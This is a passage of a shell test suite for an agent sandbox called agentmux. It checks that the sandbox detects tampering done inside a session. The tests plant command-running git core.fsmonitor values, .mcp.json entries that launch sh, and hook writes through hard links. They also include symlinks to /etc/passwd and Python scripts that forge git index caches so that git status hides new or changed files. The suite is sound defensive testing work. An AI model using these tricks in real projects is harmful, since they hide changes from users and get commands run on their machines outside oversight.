	case $("$AMX" show last 2>&1) in *"the way there goes through gd,"*) ok ;;
	*) bad "show does not tell the swapped link" ;; esac
	rm -rf "$P/nest" "$P/gd" "$P/gd.old" "$X" "$MARK"
}

# Hard links made before the session to protected files (.git/config,
# a hook, .mcp.json): the jail binds those read-only by name, but could
# write them through the other name. Each is said at the start, with its
# count, and gets a file of its own first: the writes reach only the
# other names.
hardlinks() {
	echo '{"mcpServers":{}}' >"$P/.mcp.json"
	printf '#!/bin/sh\nexit 0\n' >"$P/.git/hooks/pre-commit"
	chmod 755 "$P/.git/hooks/pre-commit"
	(cd "$P" && ln .git/config cfg && ln .mcp.json m2 &&
	    ln .git/hooks/pre-commit hk) || { bad "hardlinks: cannot link"; return; }
	cfg0=$(cat "$P/.git/config")
	jrun -- sh -c "printf '[core]\\n\\tfsmonitor = \"touch $MARK; false\"\\n' >>cfg &&
	    echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' >m2 &&
	    printf 'touch $MARK\\n' >>hk && echo wrote"
	case $OUT in *wrote*) ok ;; *) bad "hardlinks: the writes did not run: $OUT" ;; esac
	[ "$(cat "$P/.git/config")" = "$cfg0" ] && ok ||
	    bad "hardlinks: the jail wrote .git/config through a hard link: $(cat "$P/.git/config")"
	grep -q command "$P/.mcp.json" && bad "hardlinks: the jail wrote .mcp.json through a hard link" || ok
	grep -q touch "$P/.git/hooks/pre-commit" && bad "hardlinks: the jail wrote a hook through a hard link" || ok
	(cd "$P" && git status >/dev/null 2>&1)
	pwned && bad "hardlinks: git status on the host ran what the jail wrote through a link" || ok
	for f in .git/config .mcp.json .git/hooks/pre-commit; do
		case $OUT in *"$f (protected) has 2 hard links: the jail could write it through another name"*) ok ;;
		*) bad "hardlinks: $f's links were not said: $OUT" ;; esac
	done
	[ "$(stat -c %a "$P/.git/hooks/pre-commit")" = 755 ] && ok ||
	    bad "hardlinks: the hook lost its mode"
	case $OUT in *"README (protected)"*|*"cfg (protected)"*) bad "hardlinks: an unprotected file was said: $OUT" ;; *) ok ;; esac
	rm -f "$P/cfg" "$P/m2" "$P/hk" "$P/.mcp.json" "$P/.git/hooks/pre-commit" "$MARK"
}

# A tree larger than [jail] scan_limit (lowered here to 50 entries): the
# end scan stops there and says so, as a warning, without flagging the
# session, once in every session it stops in (the count and the limit),
# not only the first time. A protected file made in a session whose scan
# is cut (at 2 entries, in a tree of 40 dirs) is flagged all the same:
# watched paths are looked at by name before the walk; and so is a link
# out made at the top (at 5): a dir's files come before its dirs.
scan_limit() {
	C=$XDG_CONFIG_HOME/agentmux/config
	cp "$C" "$T/config.saved"
	printf '[jail]\nscan_limit = 50\n' >>"$C"
	mkdir -p "$P/many"
	i=0
	while [ $i -lt 100 ]; do i=$((i + 1)); : >"$P/many/f$i"; done
	jrun -- sh -c 'echo ran'
	case $OUT in *ran*"holds more than 50 files and dirs ([jail] scan_limit): this session's end-of-session check"*"looked at the first 50 only"*) ok ;;
	*) bad "a tree past scan_limit was not told: $OUT" ;; esac
	[ "$(printf '%s\n' "$OUT" | grep -c 'holds more than')" = 1 ] && ok ||
	    bad "the scan limit was told more than once in a session: $OUT"
	case $("$AMX" show last 2>&1) in *flags*) bad "a scan cut short flagged the session" ;;
	*"holds more than 50 files"*) ok ;;
	*) bad "show does not tell the scan cut short" ;; esac
	jrun -- sh -c 'echo again'
	case $OUT in *again*"holds more than 50 files"*) ok ;;
	*) bad "the next session cut at the same limit said nothing: $OUT" ;; esac
	printf 'scan_limit = 2\n' >>"$C"
	i=0
	while [ $i -lt 40 ]; do i=$((i + 1)); mkdir -p "$P/d$i" &&
	    : >"$P/d$i/a" && : >"$P/d$i/b"; done
	jrun -- sh -c 'echo "{\"mcpServers\":{}}" >.mcp.json &&
	    mkdir -p .claude && echo "{}" >.claude/settings.json && echo planted'
	case $OUT in *planted*"holds more than 2 files and dirs"*) ok ;;
	*) bad "the cut scan was not told: $OUT" ;; esac
	case $OUT in *".mcp.json changed in the session"*) ok ;;
	*) bad "a protected file made past the scan limit was not flagged: $OUT" ;; esac
	case $OUT in *".claude/settings.json changed in the session"*) ok ;;
	*) bad "a protected file one dir down made past the scan limit was not flagged: $OUT" ;; esac
	[ "$(printf '%s\n' "$OUT" | grep -c '.mcp.json changed in the session')" = 1 ] && ok ||
	    bad "the protected file was flagged twice: $OUT"
	# A link out of the project at the top: files come before dirs.
	printf 'scan_limit = 5\n' >>"$C"
	jrun -- sh -c 'ln -s /etc/passwd 0link && echo linked'
	case $OUT in *linked*"0link is a link made or changed in the session that leads out of the project"*) ok ;;
	*) bad "a link out made at the top past the scan limit was not flagged: $OUT" ;; esac
	# A watched dir full of its own (opencode's plugin node_modules, 10,100
	# files) past the limit leaves the others their look by name (review
	# 16: it took all 10,000 looks, and a hook core.hooksPath names and
	# .kiro/settings/mcp.json made past the limit were not told).
	python3 -c 'import os,sys
for d in range(101):
    p = os.path.join(sys.argv[1], ".opencode/node_modules/p%d" % d)
    os.makedirs(p, exist_ok=True)
    for f in range(100): open(os.path.join(p, "f%d.js" % f), "w").close()' "$P"
	git -C "$P" config core.hooksPath .config/hooks
	printf 'scan_limit = 2000\n' >>"$C"
	jrun -- sh -c 'mkdir -p fill .config/hooks .kiro/settings && i=0 &&
	    while [ $i -lt 3000 ]; do i=$((i + 1)); : >fill/f$i; done &&
	    echo x >.config/hooks/pre-commit && echo "{}" >.kiro/settings/mcp.json && echo filled'
	case $OUT in *filled*"holds more than 2000"*) ok ;; *) bad "the fill was not cut: $OUT" ;; esac
	case $OUT in *".config/hooks/pre-commit changed in the session"*) ok ;;
	*) bad "a hook core.hooksPath names, made past the limit beside a full watched dir, was not told: $OUT" ;; esac
	case $OUT in *".kiro/settings/mcp.json changed in the session"*) ok ;;
	*) bad "a watched file made past the limit beside a full watched dir was not told: $OUT" ;; esac
	git -C "$P" config --unset core.hooksPath
	cp "$T/config.saved" "$C"
	rm -rf "$P/many" "$P"/d[0-9]* "$P/.mcp.json" "$P/.claude" "$P/0link" \
	    "$P/.opencode" "$P/fill" "$P/.config" "$P/.kiro"
}

# A dir filled past [jail] scan_limit (400 files, the limit 50) hides
# nothing at its depth or above: the walk is breadth first and reads the
# smaller dirs of a depth first, so a link out and a git dir with
# core.fsmonitor made in a sibling dir are flagged and defused, and the
# cut is still told.
scan_bfs() {
	C=$XDG_CONFIG_HOME/agentmux/config
	cp "$C" "$T/config.saved"
	printf '[jail]\nscan_limit = 50\n' >>"$C"
	mkdir -p "$P/a"
	i=0
	while [ $i -lt 400 ]; do i=$((i + 1))
		: >"$P/a/a-file-with-a-rather-long-name-to-fill-the-dir-$i"; done
	jrun -- sh -c "mkdir z && ln -s /etc/passwd z/l && git init -q z &&
	    git -C z config core.fsmonitor 'touch $MARK; false' && echo planted"
	case $OUT in *planted*"holds more than 50 files and dirs"*) ok ;;
	*) bad "scan_bfs: the cut scan was not told: $OUT" ;; esac
	case $OUT in *"z/l is a link made or changed in the session that leads out of the project"*) ok ;;
	*) bad "scan_bfs: a link out beside a filled dir was not flagged past the scan limit: $OUT" ;; esac
	[ -z "$(git -C "$P/z" config core.fsmonitor)" ] && ok ||
	    bad "scan_bfs: a git dir made beside a filled dir kept core.fsmonitor past the scan limit"
	(cd "$P/z" && git status >/dev/null 2>&1)
	pwned && bad "scan_bfs: git status on the host ran a planted core.fsmonitor" || ok
	cp "$T/config.saved" "$C"
	rm -rf "$P/a" "$P/z" "$MARK"
}

# A plain untracked-cache forger into $1: "python3 $1 INDEX DIR FILE" drops
# FILE from DIR's untracked files in INDEX's cache (the checksum made again).
untr_py() {
	cat >"$1" <<-'PY'
	import sys, hashlib, struct, re
	p, d, v = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
	body = open(p, 'rb').read()[:-20]
	n = struct.unpack('>I', body[8:12])[0]
	off = 12
	for i in range(n):
	    nl = struct.unpack('>H', body[off + 60:off + 62])[0] & 0xfff
	    off += (62 + nl + 8) & ~7
	out = bytearray(body[:off])
	while off < len(body):
	    sig = body[off:off + 4]
	    sz = struct.unpack('>I', body[off + 4:off + 8])[0]
	    data = body[off + 8:off + 8 + sz]
	    if sig == b'UNTR':
	        m = re.search(b'\x01\x00' + re.escape(d + b'\0' + v + b'\0'), data)
	        data = data[:m.start()] + b'\x00\x00' + d + b'\0' + data[m.end():]
	        print('patched')
	    out += sig + struct.pack('>I', len(data)) + data
	    off += 8 + sz
	out += hashlib.sha1(out).digest()
	open(p, 'wb').write(out)
	PY
}

# Submodules git finds by name, not path (nested_module): one named
# "other" at lib/sub (.git/modules/other), and one inside it
# (.git/modules/other/modules/inner at lib/sub/in). A skip-worktree mark
# in each one's index is flagged, naming its path.
module_names() {
	S=$T/modsrc
	S2=$T/modsrc2
	rm -rf "$S" "$S2"
	(git init -q "$S2" && cd "$S2" && git config user.email t@x &&
	    git config user.name t && echo 1 >x && git add . && git commit -qm one) || exit 1
	(git init -q "$S" && cd "$S" && git config user.email t@x &&
	    git config user.name t && echo 1 >a && git add . && git commit -qm one &&
	    git -c protocol.file.allow=always submodule add -q --name inner "$S2" in 2>/dev/null &&
	    git commit -qm in) || exit 1
	(cd "$P" && git -c protocol.file.allow=always submodule add -q --name other "$S" \
	    lib/sub 2>/dev/null && git commit -qm sub &&
	    git -c protocol.file.allow=always submodule update -q --init --recursive 2>/dev/null) || exit 1
	[ -d "$P/.git/modules/other" ] && [ -d "$P/.git/modules/other/modules/inner" ] && [ -f "$P/lib/sub/in/x" ] ||
	    { bad "module_names: the submodules are not where git puts them: $(find "$P/.git/modules" -maxdepth 3 -type d | head)"; return; }
	jrun -- sh -c 'cd lib/sub && echo evil >>a && git update-index --skip-worktree a &&
	    cd in && echo evil >>x && git update-index --skip-worktree x && echo marked'
	case $OUT in *marked*) ok ;; *) bad "module_names: the marks were not made: $OUT" ;; esac
	case $OUT in *"lib/sub/a was marked skip-worktree in the index of the nested repository lib/sub"*) ok ;;
	*) bad "module_names: a mark in a submodule whose name is not its path was not flagged: $OUT" ;; esac
	case $OUT in *"lib/sub/in/x was marked skip-worktree in the index of the nested repository lib/sub/in"*) ok ;;
	*) bad "module_names: a mark in a submodule nested in another was not flagged: $OUT" ;; esac
	(cd "$P" && git submodule deinit -q -f lib/sub 2>/dev/null; git rm -q -f lib/sub &&
	    git commit -qm unsub && rm -rf .git/modules lib) || exit 1
}

# A nested repository's untracked cache forged to hide a new file, as the
# project's is (untr_hidden): lib/.git/index lists lib/src2 with no
# untracked file. It is told in red naming the file, dropped, and the
# user's git status in lib shows the file; a cache git itself updated is
# said plainly (untr_benign).
nested_untr_hidden() {
	(cd "$P" && git init -q lib && cd lib && git config user.email t@x &&
	    git config user.name t && mkdir src2 && echo 'int a;' >src2/a.c &&
	    git add . && git commit -qm one && git update-index --untracked-cache &&
	    git -c core.untrackedCache=true status >/dev/null 2>&1) || exit 1
	untr_py "$P/lib/.git/amx-untr.py"
	jrun -- sh -c "$AFTER_MTIME"'
	    cd lib && echo "import os" >src2/conftest.py; after_mtime src2;
	    git -c core.untrackedCache=true status >/dev/null 2>&1;
	    /usr/bin/python3 .git/amx-untr.py .git/index src2 conftest.py
	    git -c core.untrackedCache=true status --porcelain'
	case $OUT in *patched*) ok ;; *) bad "nested_untr_hidden: the forgery did not apply: $OUT" ;; esac
	case $OUT in *"?? src2/conftest.py"*) bad "nested_untr_hidden: the forgery did not blind git status (the check is void): $OUT" ;; *) ok ;; esac
	case $OUT in *"the untracked cache in the index of the nested repository lib was made or changed in the session, and it hid 1 untracked files from git status there: lib/src2/conftest.py; agentmux dropped it"*) ok ;;
	*) bad "nested_untr_hidden: a forged untracked cache in lib/.git/index that hides a file was not told: $OUT" ;; esac
	grep -q UNTR "$P/lib/.git/index" && bad "nested_untr_hidden: the untracked cache stayed in lib/.git/index" || ok
	case $(git -C "$P/lib" -c core.untrackedCache=true status --porcelain 2>&1) in *"?? src2/conftest.py"*) ok ;;
	*) bad "nested_untr_hidden: the user's git status in lib does not show src2/conftest.py" ;; esac
	git -C "$P/lib" -c core.untrackedCache=true status >/dev/null 2>&1
	jrun -- sh -c "$AFTER_MTIME"'
	    cd lib && echo new >src2/b.c && after_mtime src2 &&
	    git -c core.untrackedCache=true status --porcelain'
	case $OUT in *"nested repository lib"*"hides no untracked file"*) ok ;;
	*) bad "nested_untr_hidden: git's own update of lib's untracked cache was not said plainly: $OUT" ;; esac
	case $OUT in *"hid "*"untracked files"*) bad "nested_untr_hidden: git's own update of lib's untracked cache was called forged: $OUT" ;; *) ok ;; esac
	rm -rf "$P/lib"
}

# A --worktree session's own index (its .git is a file naming
# .git/worktrees/NAME, which agentmux made) gets the checks the project's
# gets (blind, index_rewrite, fsmn, tree_forged, untr_hidden): marks,
# an entry rewritten back to its old blob, fsmonitor data, a forged
# cache-tree and an untracked cache that hides a new file. Each is told
# and the extensions dropped from that index.
wtrun() {
	OUT=$("$AMX" run --worktree -C "$P" -- sh -c "$1" </dev/null 2>&1)
	RC=$?
	WT=$(printf '%s\n' "$OUT" | sed -n 's/^WT=//p' | tail -n 1)
	WTI=$(printf '%s\n' "$OUT" | sed -n 's/^WTI=//p' | tail -n 1)
	# The jail sees the repository's git dir at /.agentmux-git.
	case $WTI in /.agentmux-git/*) WTI=$P/.git${WTI#/.agentmux-git} ;; esac
}
worktree_index() {
	base=$(git -C "$P" rev-parse HEAD)
	(cd "$P" && mkdir -p src2 && echo 'int a;' >src2/a.c && echo 1 >a &&
	    echo 3 >c && git add src2/a.c a c && git commit -qm wt) || exit 1
	tree_py "$P/.git/amx-tree.py"
	wtrun 'echo WT=$(pwd); I=$(git rev-parse --path-format=absolute --git-path index); echo WTI=$I;
	    echo evil >>a && git update-index --skip-worktree a &&
	    o=$(git rev-parse :c) && echo "int evil;" >>c &&
	    touch -d @$(($(date +%s) - 10)) c && git add c &&
	    n=$(git rev-parse :c) && python3 -c "import hashlib, sys
o, n, p = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2]), sys.argv[3]
d = open(p, \"rb\").read()[:-20]
assert d.count(n) == 1
d = d.replace(n, o)
open(p, \"wb\").write(d + hashlib.sha1(d).digest())" "$o" "$n" "$I" &&
	    printf "#!/bin/sh\\nprintf \"t1\\\\\\\\0\"\\n" >/tmp/h && chmod +x /tmp/h &&
	    git -c core.fsmonitor=/tmp/h -c core.fsmonitorHookVersion=2 \
	        update-index --fsmonitor && grep -q FSMN "$I" && echo forged'
	case $OUT in *forged*) ok ;; *) bad "worktree_index: the forgeries did not apply: $OUT" ;; esac
	[ -n "$WT" ] && [ -f "$WT/.git" ] && [ -f "$WTI" ] ||
	    { bad "worktree_index: no worktree or index ($WT, $WTI): $OUT"; return; }
	st=$(git -C "$WT" status --porcelain 2>&1)
	[ -z "$st" ] && ok || bad "worktree_index: git status in the worktree was not blinded (the check is void): $st"
	case $OUT in *"a was marked skip-worktree in $WTI in the session"*"in the session's worktree $WT"*) ok ;;
	*) bad "worktree_index: a skip-worktree mark in the worktree's index was not flagged: $OUT" ;; esac
	case $OUT in *"c: its entry in $WTI (the index of the session's worktree $WT, where the commands below run) was rewritten"*) ok ;;
	*) bad "worktree_index: a rewritten entry in the worktree's index was not flagged: $OUT" ;; esac
	case $OUT in *"the fsmonitor data in $WTI"*"agentmux dropped it"*) ok ;;
	*) bad "worktree_index: fsmonitor data in the worktree's index was not told: $OUT" ;; esac
	grep -q FSMN "$WTI" && bad "worktree_index: the fsmonitor data stayed in $WTI" || ok
	git -C "$P" worktree remove --force "$WT" 2>/dev/null
	wtrun 'echo WT=$(pwd); I=$(git rev-parse --path-format=absolute --git-path index); echo WTI=$I;
	    b=$(echo "int evil;" | git hash-object -w --stdin) &&
	    t=$(printf "100644 blob $b\ta.c\n" | git mktree) &&
	    git read-tree HEAD && /usr/bin/python3 /.agentmux-git/amx-tree.py "$I" src2 $t'
	case $OUT in *patched*) ok ;; *) bad "worktree_index tree: the forgery did not apply: $OUT" ;; esac
	case $OUT in *"the cache-tree in"*"was forged in the session; it disagreed with the index entries for src2/:"*"agentmux dropped it"*) ok ;;
	*) bad "worktree_index: a forged cache-tree in the worktree's index was not told: $OUT" ;; esac
	if [ -n "$WT" ]; then
		(cd "$WT" && git status --porcelain >/dev/null && echo typo >>a &&
		    git commit -qam typo) || bad "worktree_index: the user's commit in the worktree failed"
		case $(git -C "$WT" show HEAD:src2/a.c 2>&1) in *evil*) bad "worktree_index: the user's commit took the session's src2/a.c" ;;
		*"int a;"*) ok ;; *) bad "worktree_index: src2/a.c is not in the user's commit" ;; esac
		git -C "$P" worktree remove --force "$WT" 2>/dev/null
	fi
	cat >"$P/.git/amx-untr.py" <<-'PY'
	import sys, hashlib, struct, re
	p, d, v = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
	body = open(p, 'rb').read()[:-20]
	n = struct.unpack('>I', body[8:12])[0]
	off = 12
	for i in range(n):
	    nl = struct.unpack('>H', body[off + 60:off + 62])[0] & 0xfff
	    off += (62 + nl + 8) & ~7
	out = bytearray(body[:off])
	while off < len(body):
	    sig = body[off:off + 4]
	    sz = struct.unpack('>I', body[off + 4:off + 8])[0]
	    data = body[off + 8:off + 8 + sz]
	    if sig == b'UNTR':
	        m = re.search(b'\x01\x00' + re.escape(d + b'\0' + v + b'\0'), data)
	        data = data[:m.start()] + b'\x00\x00' + d + b'\0' + data[m.end():]
	        print('patched')
	    out += sig + struct.pack('>I', len(data)) + data
	    off += 8 + sz
	out += hashlib.sha1(out).digest()
	open(p, 'wb').write(out)
	PY
	wtrun "$AFTER_MTIME"'
	    echo WT=$(pwd); I=$(git rev-parse --path-format=absolute --git-path index); echo WTI=$I;
	    git -c core.untrackedCache=true status >/dev/null 2>&1;
	    echo "import os" >src2/conftest.py; after_mtime src2;
	    git -c core.untrackedCache=true status >/dev/null 2>&1;
	    /usr/bin/python3 /.agentmux-git/amx-untr.py "$I" src2 conftest.py
	    git -c core.untrackedCache=true status --porcelain'
	case $OUT in *patched*) ok ;; *) bad "worktree_index untr: the forgery did not apply: $OUT" ;; esac
	case $OUT in *"?? src2/conftest.py"*) bad "worktree_index untr: the forgery did not blind git status (the check is void): $OUT" ;; *) ok ;; esac
	case $OUT in *"the untracked cache in $WTI"*"hid 1 untracked files from your git status: src2/conftest.py; agentmux dropped it"*) ok ;;
	*) bad "worktree_index: an untracked cache in the worktree's index that hides a file was not told: $OUT" ;; esac
	[ -n "$WTI" ] && grep -q UNTR "$WTI" && bad "worktree_index: the untracked cache stayed in $WTI" || ok
	[ -n "$WT" ] && git -C "$P" worktree remove --force "$WT" 2>/dev/null
	rm -f "$P/.git/amx-tree.py" "$P/.git/amx-untr.py"
	git -C "$P" reset -q --hard "$base"
	rm -rf "$P/src2"
}

checks() {
	MARK=$T/outside/PWNED
	rm -f "$MARK"
	setid
	confdiff_setid
	confdiff_gitdir
	new_gitdir
	unreadable_dir
	other_gitdir
	dotgit_out
	link_out
	objects_link
	venv_link
	run_files
	run_deep
	dotgit_swap
	scan_limit
	scan_bfs
	rebase_left
	config_keys
	modules
	protected
	protected_deep
	protected_links
	protected_link_target
	rerere
	untr
	fsmn
	untr_hidden
	tree_forged
	untr_benign
	hooks
	moved_in
	user_gitconfig
	nested_links
	hook_links
	blind
	index_rewrite
	nested_index
	nested_tree
	nested_untr_odd
	nested_ignored
	nested_sparse
	nested_module
	nested_left
	nested_history_off
	hardlinks
	worktree_index
	nested_untr_hidden
	module_names
}

jail_main "$@"
